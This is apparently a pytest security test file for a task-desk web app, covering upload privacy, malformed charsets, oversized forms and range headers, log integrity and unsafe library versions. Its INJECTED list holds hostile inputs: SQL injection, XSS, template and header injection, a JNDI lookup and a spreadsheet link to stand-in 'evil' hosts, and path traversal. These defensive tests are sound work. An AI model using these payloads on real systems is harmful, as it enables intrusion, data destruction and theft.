"""What people and programs send in: files, bodies, addresses, words; and what we start with. L and W number the promises."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from time import perf_counter

import pytest

from config import versions
from tests import command_line
from tests.command_line import SAMPLE, Terminal
from tests.counter import DESK, NOW, PNG, PROGRESS, WHO, Counter, Visitor, checked, hidden, sent, words
from tests.desk_office import WARD, Place, place
from web.app import ROUTES, build
from web.pages import address

dondoc = command_line.dondoc


@pytest.fixture
def counter() -> Counter:
    return Counter()


@pytest.fixture
def client(counter: Counter) -> Iterator[Visitor]:
    with Visitor(build(counter, lambda: NOW), counter.base_url) as visitor:
        yield visitor


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Place]:
    with place(tmp_path) as found:
        yield found


def answer(visitor: Visitor, path: str, kind: str, **fields: str) -> str:
    check = visitor.post(path, data={**hidden(visitor.get(path).text), "kind": kind, **WHO, **fields, "step": "check"})
    return visitor.post(path, data={**hidden(check.text), "step": "send"}).text


def test_l06_who_said_it_by_which_link_and_the_receipt_come_in_one_transaction(here: Place) -> None:
    token = here.token()
    task = next(work.id for work in here.app.state.front.desk(WARD, here.clock.now()).open if work.lead and not work.indicator)
    with here.visitor() as visitor:
        answer(visitor, f"/t/{token}/{task}", "received")
    [event] = here.ask("SELECT e.at, e.link, p.name, p.ip FROM events e JOIN persons p ON p.id = e.person WHERE e.task = :task", task=task)
    assert (event.link, event.name, event.ip) == (token.split(".")[2], WHO["name"], "127.0.0.1")
    assert [row.not_before for row in here.ask("SELECT not_before FROM notices WHERE lane = 'receipt'")] == [event.at]


@pytest.mark.parametrize(("after", "takes"), [(timedelta(days=6, hours=23), True), (timedelta(days=7, seconds=1), False)])
def test_l08_done_is_taken_back_within_seven_days_and_not_later(here: Place, after: timedelta, takes: bool) -> None:
    task = next(work.id for work in here.app.state.front.desk(WARD, here.clock.now()).open if work.lead and not work.indicator)
    path = f"/t/{here.token()}/{task}"
    with here.visitor() as visitor:
        answer(visitor, path, "done")
        form = {"kind": "undo", "undo-note": "Gửi nhầm", **WHO, "nonce": "n" * 22, "step": "send"}
        here.pass_(after)
        assert visitor.post(path, data=form).status_code == (200 if takes else 409)
    kinds = [row.kind for row in here.ask("SELECT kind FROM events WHERE task = :task ORDER BY seq", task=task)]
    assert kinds == (["done", "undo"] if takes else ["done"])
    [row] = here.ask("SELECT closed_at FROM tasks WHERE id = :task", task=task)
    assert (row.closed_at is None) is takes


def test_w105_what_came_in_as_a_file_is_served_to_nobody_by_a_link(client: Visitor, counter: Counter) -> None:
    checked(client, f"/t/{DESK}/10", PROGRESS, files=[("progress-files", ("Ảnh.png", PNG))])
    [kept] = counter.kept
    for path in (f"/evidence/{kept}", f"/static/{kept}", f"/t/{DESK}/{kept}", f"/t/{DESK}/evidence/{kept}", f"/.dondoc/evidence/{kept}"):
        assert client.get(path).status_code in (404, 405)
    for name in re.findall(r'href="(/static/[^"]+)"', client.get(f"/t/{DESK}").text):
        assert client.get(name).headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("charset", ["undefined", "nobody-knows", "idna", "utf-16", "zlib", "unicode_escape"])
@pytest.mark.parametrize("kind", ["multipart/form-data; boundary=b", "application/x-www-form-urlencoded"])
def test_w106_a_charset_that_nobody_writes_in_is_no_fault_of_ours(client: Visitor, counter: Counter, charset: str, kind: str) -> None:
    before = counter.dump()
    body = b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\n\xff\xfe\xf0\r\n--b--\r\n'
    answered = client.post(f"/t/{DESK}/10", content=body, headers={"content-type": f"{kind}; charset={charset}"})
    assert answered.status_code in (400, 415, 422)
    assert counter.dump() == before


@pytest.mark.parametrize("body", [b"a=1&" * 100_000, b"a=" + b"x" * 2_000_000], ids=["100,000 fields", "a field of 2 MB"])
def test_w106_a_form_beyond_its_limits_is_refused_at_once(client: Visitor, body: bytes) -> None:
    began = perf_counter()
    refused = client.post(f"/t/{DESK}/10", content=body, headers={"content-type": "application/x-www-form-urlencoded"})
    assert refused.status_code in (400, 413)
    assert perf_counter() - began < 1


def test_w106_a_part_with_ten_thousand_headers_is_refused_at_once(client: Visitor) -> None:
    body = b"--b\r\n" + b"X-A: b\r\n" * 10_000 + b'Content-Disposition: form-data; name="a"\r\n\r\nx\r\n--b--\r\n'
    began = perf_counter()
    refused = client.post(f"/t/{DESK}/10", content=body, headers={"content-type": "multipart/form-data; boundary=b"})
    assert refused.status_code in (400, 413)
    assert perf_counter() - began < 1


def test_w107_ten_thousand_ranges_cost_no_more_than_the_file(client: Visitor) -> None:
    for path in (address("pages"), f"/t/{DESK}"):
        began = perf_counter()
        whole = client.get(path, headers={"range": "bytes=" + ",".join(f"{at}-{at}" for at in range(10_000))})
        assert whole.status_code == 200
        assert perf_counter() - began < 1


INJECTED = [
    "'; DROP TABLE tasks; --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "%(name)s", "{0.__class__}",
    "a\r\nBcc: x@evil.example", "a\u2028b", "=HYPERLINK(\"http://evil\")", "${jndi:ldap://evil}", "../../etc/passwd", "a\x1b[31mb",
]  # fmt: skip


@pytest.mark.parametrize("typed", INJECTED)
def test_w108_what_is_typed_is_shown_as_it_was_typed(client: Visitor, counter: Counter, typed: str) -> None:
    check = checked(client, f"/t/{DESK}/10", {**PROGRESS, "progress-note": typed, "name": typed.replace("\r\n", " ")})
    assert check.status_code == 200
    plain = "".join(sign for sign in typed.replace("\r\n", "\n") if sign in "\n" or sign.isprintable())
    assert " ".join(plain.split()) in words(check.text)
    assert "<script>" not in check.text
    assert "<img" not in check.text
    client.post(f"/t/{DESK}/10", data={**hidden(check.text), "step": "send"})
    [receipt] = counter.receipts.values()
    assert receipt.act.note == plain


def test_w108_one_answer_is_one_line_of_the_log(client: Visitor, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("INFO", logger="web")
    client.get(f"/t/{DESK}", headers={"user-agent": "a\tb"})
    sent(client, f"/t/{DESK}/10", {**PROGRESS, "name": "a b"})
    assert all("\n" not in record.getMessage() for record in caplog.records if record.name.startswith("web"))


def test_w110_no_page_of_state_says_a_secret(client: Visitor) -> None:
    for path in ("/livez", "/readyz", "/robots.txt", "/docs", "/openapi.json", "/metrics", "/.env", "/dondoc.toml"):
        assert not re.search(r"k1 |password|secret|t1\.", client.get(path).text)
    assert not [route.path for route in ROUTES if re.search(r"debug|admin|metrics", route.path)]


def test_w115_libraries_known_to_be_unsafe_are_named() -> None:
    assert versions.unsafe() == []
    assert versions.unsafe(lambda _: "0.0.1") == [f"{name} 0.0.1 < {least}" for name, (least, _) in versions.LEAST.items()]
    installed = {name: least for name, (least, _) in versions.LEAST.items()} | {"jinja2": "3.1.5", "starlette": "1.10.0"}
    assert versions.unsafe(installed.__getitem__) == ["jinja2 3.1.5 < 3.1.6"]


def test_w115_nothing_runs_on_a_library_known_to_be_unsafe_unless_told_to(
    dondoc: Terminal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert dondoc("apply", SAMPLE, "--yes").code == 0
    old = tmp_path / "old" / "jinja2-3.1.5.dist-info"
    old.mkdir(parents=True)
    (old / "METADATA").write_text("Metadata-Version: 2.1\nName: jinja2\nVersion: 3.1.5\n", encoding="utf-8")
    monkeypatch.syspath_prepend(old.parent)
    refused = dondoc("run", "--once")
    assert refused.code != 0
    assert "jinja2 3.1.5 < 3.1.6" in refused.err
    dondoc.write(".env", "DONDOC_OLD_LIBRARIES=allow\n")
    assert "DONDOC_OLD_LIBRARIES=allow" not in dondoc("run", "--once").err
